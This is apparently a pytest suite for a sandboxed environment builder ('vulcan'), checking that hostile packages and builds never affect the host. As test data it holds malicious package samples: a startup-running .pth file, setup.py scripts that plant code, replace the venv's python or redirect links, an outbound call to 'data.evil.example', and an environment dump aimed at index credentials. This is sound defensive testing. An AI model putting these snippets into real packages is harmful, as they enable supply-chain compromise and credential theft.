"""Environments are made in boxes: what projects and packages bring never runs, writes or is followed on the host."""

import os
import shutil
import tempfile
from pathlib import Path

import pytest

from conftest import git, make_repository
from fakes.package_index import PackageIndex, sdist, wheel
from vulcan.application.ports import BoxSpec, Limits, TestRequest
from vulcan.domain.environment import Recipe
from vulcan.domain.errors import EnvironmentUnavailable
from vulcan.infrastructure.environment.added import listing, take_added
from vulcan.infrastructure.environment.builder import UvEnvironments
from vulcan.infrastructure.git import GitRepository
from vulcan.infrastructure.sandbox import BubblewrapSandbox, LandlockSandbox
from vulcan.infrastructure.testing.pytest_runner import PytestRunner
from vulcan.infrastructure.testing.toolbox import Toolbox
from vulcan.infrastructure.workspace.directories import Directories

pytestmark = pytest.mark.sandbox

SETUPTOOLS = '[build-system]\nrequires = ["setuptools>=68"]\nbuild-backend = "setuptools.build_meta"\n'
PROJECT = SETUPTOOLS + '[project]\nname = "calc"\nversion = "1"\n[tool.setuptools]\npy-modules = ["calc"]\n'
CALC = {
    "calc.py": "def add(a, b):\n    return a + b\n",
    "tests/test_calc.py": "import calc\n\n\ndef test_add():\n    assert calc.add(1, 2) == 3\n",
}


@pytest.fixture
def index():
    with PackageIndex() as running:
        yield running


@pytest.fixture
def marker():
    """A path of the host that every user of it may write; whatever shows up there came out of a box."""
    folder = Path(tempfile.mkdtemp(prefix="vulcan-marker-", dir="/tmp"))
    folder.chmod(0o1777)
    yield folder / "out"
    shutil.rmtree(folder)


class House:
    """Environments, checkouts and a runner on one state folder."""

    def __init__(self, root, *, sandbox=None, recipes=(), **environ):
        self.root, self.sandbox = root, sandbox or BubblewrapSandbox()
        self.toolbox = Toolbox(root / "tools")
        self.environments = UvEnvironments(
            root / "environments",
            self.sandbox,
            self.toolbox.mount(),
            Limits(),
            {**os.environ, **environ},
            recipes=recipes,
        )
        self.runner = PytestRunner(self.sandbox, self.toolbox, Limits())

    def open(self, repository):
        """The host's own repository for a user's one, and its directories."""
        objects = GitRepository(self.root / f"{repository.name}.git")
        head = git(repository, "rev-parse", "HEAD")
        objects.fetch(repository, head)
        jobs, trees = self.root / "jobs", self.root / "trees"
        for folder in (jobs, trees):
            folder.mkdir(exist_ok=True, mode=0o711)
        return Directories(jobs, objects, self.sandbox, self.environments, Limits(), trees), head

    async def prepared(self, repository):
        directories, head = self.open(repository)
        async with directories.clean("job", head) as checkout:
            return checkout.environment

    async def run(self, repository, commit="", base="", **request):
        """The project's suite in a clean checkout."""
        directories, head = self.open(repository)
        async with directories.clean("job", commit or head, base) as checkout:
            result = await self.runner.run(checkout.path, checkout.environment, TestRequest(**request))
        return checkout.environment, result.run


@pytest.fixture
def house(reachable, shared_environments):
    (reachable / "environments").symlink_to(shared_environments)
    return House(reachable)


def outcomes(run):
    assert not run.note
    return {result.id: result.outcome.value for result in run.results}


def requiring(*lines):
    return CALC | {
        "pyproject.toml": PROJECT.replace(
            'version = "1"\n', f'version = "1"\ndependencies = {list(lines)!r}\n'
        )
    }


def plants(marker):
    """Code of a .pth file: runs whenever an interpreter starts that has it, and leaves something outside if it can."""
    return f"import os; os.makedirs({str(marker)!r}, exist_ok=True)\n"


# ------------------------------------------------------------------------------------- nothing runs on the host


async def test_a_package_that_acts_when_an_interpreter_starts_acts_in_boxes_only(
    reachable, index, marker, house
):
    index.add(wheel("evil", "1.0", {"evil.py": "X = 1\n", "zz_evil.pth": plants(marker)}))
    house = House(house.root, UV_INDEX=index.url)
    files = requiring("evil") | {
        "tests/test_evil.py": "import evil, os\n\n\ndef test_it():\n    assert evil.X == 1\n"
    }
    environment, run = await house.run(make_repository(reachable / "calc", files))
    assert outcomes(run)["tests/test_evil.py::test_it"] == "passed"
    assert list(environment.mounts[0].source.rglob("zz_evil.pth"))
    assert not marker.exists()


async def test_a_requirement_with_an_address_is_not_fetched(reachable, index, marker, house):
    index.add(wheel("evil", "1.0", {"evil.py": "", "zz_evil.pth": plants(marker)}))
    file = f"http://{index.address}/files/evil-1.0-py3-none-any.whl"
    files = requiring(f"evil @ {file}") | {"requirements.txt": f"{file}\ngit+http://{index.address}/x.git\n"}
    environment = await house.prepared(make_repository(reachable / "calc", files))
    assert index.asked == []
    assert any("evil" in note for note in environment.notes)
    assert not marker.exists()


async def test_a_build_that_plants_code_in_the_environment_reaches_boxes_only(reachable, marker, house):
    setup = f"""
import glob, site, sys
from setuptools import setup
for folder in glob.glob("/venv/lib/python3*/site-packages"):
    with open(folder + "/zz_evil.pth", "w") as file:
        file.write({plants(marker)!r})
setup(name="calc", version="1", py_modules=["calc"], install_requires=["colorama"])
"""
    environment, run = await house.run(make_repository(reachable / "calc", CALC | {"setup.py": setup}))
    assert list(environment.mounts[0].source.rglob("zz_evil.pth"))
    assert list(environment.mounts[0].source.glob("lib/python3*/site-packages/colorama"))
    assert outcomes(run) == {"tests/test_calc.py::test_add": "passed"}
    assert not marker.exists()


async def test_a_build_that_puts_links_into_the_environment_leads_the_host_nowhere(reachable, marker, house):
    marker.mkdir()
    (marker / "precious").write_text("keep")
    marker.chmod(0o777)
    setup = f"""
import glob, os, shutil
from setuptools import setup
for folder in glob.glob("/venv/lib/python3*/site-packages"):
    shutil.rmtree(folder)
    os.symlink({str(marker)!r}, folder)
os.rename("/venv/bin/python", "/venv/bin/real")
with open("/venv/bin/python", "w") as file:
    file.write("#!/bin/sh\\ntouch {marker}/run\\n")
os.chmod("/venv/bin/python", 0o755)
setup(name="calc", version="1", py_modules=["calc"])
"""
    environment = await house.prepared(make_repository(reachable / "calc", CALC | {"setup.py": setup}))
    assert sorted(path.name for path in marker.iterdir()) == ["precious"]
    shutil.rmtree(environment.mounts[0].source.parent)
    assert (marker / "precious").read_text() == "keep"


async def test_a_dangling_link_is_not_written_through(reachable, marker, house):
    """What the first commit's build adds must not be written where the second commit's link points."""
    setup = """
from setuptools import setup
import os
if not os.path.lexists("calc_version.py"):
    open("calc_version.py", "w").write("VERSION = 'written by the build'\\n")
setup(name="calc", version="1", py_modules=["calc"])
"""
    repository = make_repository(reachable / "calc", CALC | {"setup.py": setup})
    base = git(repository, "rev-parse", "HEAD")
    environment, _ = await house.run(repository)
    assert environment.generated
    (repository / "calc_version.py").symlink_to(marker)
    git(repository, "add", "-A")
    git(repository, "commit", "-q", "-m", "A link")
    await house.run(repository, base=base)
    assert not marker.exists()


async def test_one_repository_does_not_poison_anothers_environment(reachable, house):
    """The same naming files; the hostile one's module is run by the build, which asks it for the version."""
    dynamic = SETUPTOOLS + (
        '[project]\nname = "calc"\ndynamic = ["version"]\n[tool.setuptools]\npy-modules = ["calc"]\n'
        '[tool.setuptools.dynamic]\nversion = {attr = "calc.VERSION"}\n'
    )
    hostile = """
import glob
for folder in glob.glob("/venv/lib/python3*/site-packages"):
    open(folder + "/zz_evil.pth", "w").write("import builtins; builtins.poisoned = True\\n")
VERSION = str(1)
def add(a, b):
    return a + b
"""
    honest = {
        "calc.py": "VERSION = str(1)\n",
        "tests/test_calc.py": "import builtins\n\n\ndef test_clean():\n    assert not hasattr(builtins, 'poisoned')\n",
    }
    first = await house.prepared(
        make_repository(reachable / "hostile", CALC | {"pyproject.toml": dynamic, "calc.py": hostile})
    )
    assert list(first.mounts[0].source.rglob("zz_evil.pth"))
    second, run = await house.run(make_repository(reachable / "honest", honest | {"pyproject.toml": dynamic}))
    assert first.digest != second.digest
    assert outcomes(run) == {"tests/test_calc.py::test_clean": "passed"}


async def test_a_change_has_no_part_in_the_environment_that_it_is_judged_in(reachable, house):
    repository = make_repository(reachable / "calc", CALC | {"pyproject.toml": PROJECT})
    base = git(repository, "rev-parse", "HEAD")
    (repository / "calc.py").write_text("def add(a, b):\n    return 3\n")
    git(repository, "commit", "-q", "-a", "-m", "Change source")
    source = git(repository, "rev-parse", "HEAD")
    (repository / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    git(repository, "add", "-A")
    git(repository, "commit", "-q", "-m", "Change the build")
    commits = (base, source, git(repository, "rev-parse", "HEAD"))
    digests = [(await house.run(repository, commit, base))[0].digest for commit in commits]
    assert digests[0] == digests[1]
    assert digests[0] != digests[2]


async def test_a_build_asks_other_servers_in_vain_and_that_is_told(reachable, index, house):
    setup = f"""
import os, urllib.request
from setuptools import setup
for url in ("http://{index.address}/secret", "http://data.evil.example/"):
    try:
        urllib.request.urlopen(url, timeout=5)
    except Exception as error:
        pass
open("asked.py", "w").write("")
setup(name="calc", version="1", py_modules=["calc"])
"""
    environment = await house.prepared(make_repository(reachable / "calc", CALC | {"setup.py": setup}))
    assert index.asked == []
    assert [note for note in environment.notes if "data.evil.example:80" in note and "not allowed" in note]


async def test_credentials_of_an_index_stay_outside(reachable, index, house):
    index.add(wheel("inner", "1.0", {"inner.py": "X = 1\n"}))
    index.add(
        sdist(
            "outer",
            "1.0",
            {
                "setup.py": "import os\nfrom setuptools import setup\nopen('env.py', 'w').write(f'ENV = {dict(os.environ)!r}')\nsetup(name='outer', version='1.0', py_modules=['env'])\n"
            },
        )
    )
    house = House(house.root, UV_INDEX=index.url.replace("http://", "http://user:FAKESECRET@"))
    files = requiring("inner", "outer") | {
        "tests/test_env.py": "import env, inner\n\n\ndef test_it():\n    assert 'UV_INDEX' in env.ENV\n    assert 'FAKESECRET' not in str(env.ENV)\n"
    }
    _, run = await house.run(make_repository(reachable / "calc", files))
    assert outcomes(run)["tests/test_env.py::test_it"] == "passed"


# ----------------------------------------------------------------------------------------- what is made


async def test_what_has_no_wheel_is_built_and_takes_nothing_else_along(reachable, index, house):
    index.add(wheel("plain", "1.0", {"plain.py": "X = 1\n"}))
    index.add(
        sdist(
            "source_only",
            "1.0",
            {
                "setup.py": "from setuptools import setup\nsetup(name='source_only', version='1.0', py_modules=['source_only'])\n",
                "source_only.py": "Y = 2\n",
            },
        )
    )
    house = House(house.root, UV_INDEX=index.url)
    files = CALC | {
        "requirements-dev.txt": "plain\nsource_only\nno-such-package-9f3a\n",
        "tests/test_both.py": "import plain, source_only\n\n\ndef test_both():\n    assert (plain.X, source_only.Y) == (1, 2)\n",
    }
    environment, run = await house.run(make_repository(reachable / "calc", files))
    assert outcomes(run)["tests/test_both.py::test_both"] == "passed"
    assert [n.split(" could")[0] for n in environment.notes] == [
        "no-such-package-9f3a (requirements-dev.txt)"
    ]


async def test_an_extension_in_c_is_built_once_and_imported_from_the_tree(reachable, house):
    extension = '#include <Python.h>\nstatic struct PyModuleDef m = {PyModuleDef_HEAD_INIT, "fast", 0, -1, 0};\nPyMODINIT_FUNC PyInit_fast(void) { PyObject *o = PyModule_Create(&m); PyModule_AddIntConstant(o, "ANSWER", 42); return o; }\n'
    files = {
        "pyproject.toml": SETUPTOOLS
        + '[project]\nname = "calc"\nversion = "1"\n[tool.setuptools]\npackages = ["calc"]\n',
        "setup.py": "from setuptools import Extension, setup\nsetup(ext_modules=[Extension('calc.fast', ['calc/fast.c'])])\n",
        "calc/__init__.py": "",
        "calc/fast.c": extension,
        "tests/test_fast.py": "from calc import fast\n\n\ndef test_it():\n    assert fast.ANSWER == 42\n",
    }
    environment, run = await house.run(make_repository(reachable / "calc", files))
    assert outcomes(run) == {"tests/test_fast.py::test_it": "passed"}
    assert list(environment.generated.rglob("*.so"))


async def test_setup_commands_run_in_the_box_and_what_they_make_is_shown(reachable, house):
    commands = (
        "mkdir -p node_modules/left && echo 'module.exports = 1' > node_modules/left/index.js",
        "echo 5 > tests/number.txt",
    )
    house = House(house.root, recipes=[Recipe(setup=commands)])
    test = "from pathlib import Path\n\n\ndef test_it():\n    assert Path('node_modules/left/index.js').is_file()\n    assert Path(__file__).with_name('number.txt').read_text() == '5\\n'\n"
    environment, run = await house.run(
        make_repository(reachable / "calc", CALC | {"tests/test_made.py": test})
    )
    assert outcomes(run)["tests/test_made.py::test_it"] == "passed"
    assert [m.target for m in environment.mounts][1:] == ["/workspace/node_modules"]


async def test_a_folder_that_building_makes_is_seen_in_a_tree_that_nobody_may_write_to(reachable, house):
    recipe = Recipe(setup=("mkdir -p src/.made/deep && echo kept > src/.made/deep/a.txt",))
    house = House(house.root, recipes=[recipe])
    directories, head = house.open(make_repository(reachable / "calc", CALC | {"pyproject.toml": PROJECT}))
    async with directories.clean("job", head, head) as checkout:
        mounts = checkout.environment.mounts
        assert any(mount.target.startswith("/workspace/") for mount in mounts)
        spec = BoxSpec(checkout.path, writable=False, mounts=mounts)
        async with house.sandbox.open(spec) as box:
            said = await box.run(["/bin/cat", "/workspace/src/.made/deep/a.txt"], timeout=20)
    assert (said.exit_code, said.output) == (0, "kept\n")


async def test_the_environment_of_a_part_is_used_where_settings_name_that_part(reachable, house):
    recipe = Recipe(path="sub", setup=("echo 7 > made.txt",))
    house = House(house.root, recipes=[recipe])
    environment = await house.prepared(make_repository(reachable / "calc", CALC | {"sub/x.py": ""}))
    assert environment.recipe.path == "sub"
    assert (environment.generated / "sub" / "made.txt").read_text() == "7\n"


@pytest.mark.parametrize(
    ("path", "read"),
    [
        ("calc.py", False), ("tests/conftest.py", False), ("README.md", False), ("pkg/sub/mod.pyi", False),
        ("setup.py", True), ("pkg/_version.py", True), ("pkg/__about__.py", True), ("pyproject.toml", True),
        ("uv.lock", True), ("src/fast.c", True), ("requirements-dev.txt", True), (".github/workflows/ci.py", True),
        ("data.json", True),
    ],
)  # fmt: skip
def test_only_a_change_of_what_builds_read_makes_a_new_environment(house, path, read):
    assert house.environments.reads(path) is read


async def test_tests_may_write_to_their_tree_and_the_next_run_sees_nothing_of_it(reachable, house):
    test = "from pathlib import Path\n\n\ndef test_it():\n    assert not Path('out').exists()\n    Path('out').mkdir()\n    Path('calc.py').write_text('')\n"
    repository = make_repository(reachable / "calc", CALC | {"tests/test_z.py": test})
    for _ in range(2):
        _, run = await house.run(repository)
        assert set(outcomes(run).values()) == {"passed"}


async def test_a_locks_versions_are_used(reachable, index, house):
    for version in ("1.0", "2.0"):
        index.add(wheel("pinned", version, {"pinned.py": f"X = {version!r}\n"}))
    house = House(house.root, UV_INDEX=index.url)
    lock = 'version = 1\nrequires-python = ">=3.11"\n[[package]]\nname = "pinned"\nversion = "1.0"\nsource = { registry = "https://pypi.org/simple" }\n'
    files = requiring("pinned") | {
        "uv.lock": lock,
        "tests/test_p.py": "import pinned\n\n\ndef test_it():\n    assert pinned.X == '1.0'\n",
    }
    _, run = await house.run(make_repository(reachable / "calc", files))
    assert outcomes(run)["tests/test_p.py::test_it"] == "passed"


async def test_without_an_index_the_tools_can_not_be_had_and_that_is_said(reachable, index, house):
    house = House(house.root, UV_DEFAULT_INDEX=index.url)
    with pytest.raises(EnvironmentUnavailable, match="tools that run tests can't be installed") as error:
        await house.prepared(make_repository(reachable / "calc", CALC))
    assert "index" in error.value.hint


async def test_a_python_that_is_not_there_is_named(reachable, house):
    files = CALC | {
        "pyproject.toml": PROJECT.replace('version = "1"\n', 'version = "1"\nrequires-python = ">=3.99"\n')
    }
    with pytest.raises(EnvironmentUnavailable, match=r"3\.99"):
        await house.prepared(make_repository(reachable / "calc", files))


async def test_an_environment_can_be_made_under_landlock(reachable, house):
    house = House(house.root, sandbox=LandlockSandbox())
    files = requiring("colorama") | {
        "tests/test_c.py": "import colorama, calc\n\n\ndef test_it():\n    assert colorama\n"
    }
    _, run = await house.run(make_repository(reachable / "calc", files))
    assert set(outcomes(run).values()) == {"passed"}


# ------------------------------------------------------------------------------ taking over what a build added


def test_only_new_files_and_folders_are_taken_and_no_link_is_followed(tmp_path):
    source, secret = tmp_path / "source", tmp_path / "secret"
    (source / "pkg").mkdir(parents=True)
    (source / "swapped").mkdir()
    (source / "pkg" / "old.py").write_text("old")
    secret.mkdir()
    (secret / "key.py").write_text("FAKESECRET")
    before = listing(source)
    (source / "pkg" / "old.py").write_text("changed")
    (source / "pkg" / "new.so").write_bytes(b"ELF")
    (source / "made" / "deep").mkdir(parents=True)
    (source / "made" / "deep" / "link").symlink_to(secret)
    (source / "link.py").symlink_to(secret / "key.py")
    (source / "swapped").rmdir()
    (source / "swapped").symlink_to(secret)
    os.mkfifo(source / "pipe.py")
    (source / "calc.egg-info").mkdir()
    added = take_added(source, before, tmp_path / "added")
    assert added.folders == ("made",)
    assert added.files == ("pkg/new.so",)
    assert (tmp_path / "added" / "files" / "pkg" / "new.so").read_bytes() == b"ELF"
    assert (tmp_path / "added" / "folders" / "made" / "deep" / "link").is_symlink()
    assert (secret / "key.py").read_text() == "FAKESECRET"


async def test_a_damaged_cache_of_packages_is_emptied_and_filled_again(reachable):
    """As a full disk, a crash or somebody's cleaning can leave it: uv itself only says that a file is not there."""
    house = House(reachable)
    await house.prepared(make_repository(reachable / "one", CALC | {"pyproject.toml": PROJECT}))
    damaged = list((reachable / "environments" / "wheels").rglob("*.dist-info/WHEEL"))
    assert damaged
    for file in damaged:
        file.unlink()
    other = PROJECT.replace('version = "1"', 'version = "2"')
    environment = await house.prepared(
        make_repository(reachable / "two", requiring("iniconfig") | {"pyproject.toml": other + "# other\n"})
    )
    assert environment.notes == ()
    again, run = await house.run(make_repository(reachable / "three", requiring("pluggy>=1.0")))
    assert outcomes(run) == {"tests/test_calc.py::test_add": "passed"}
    assert again.notes == ()
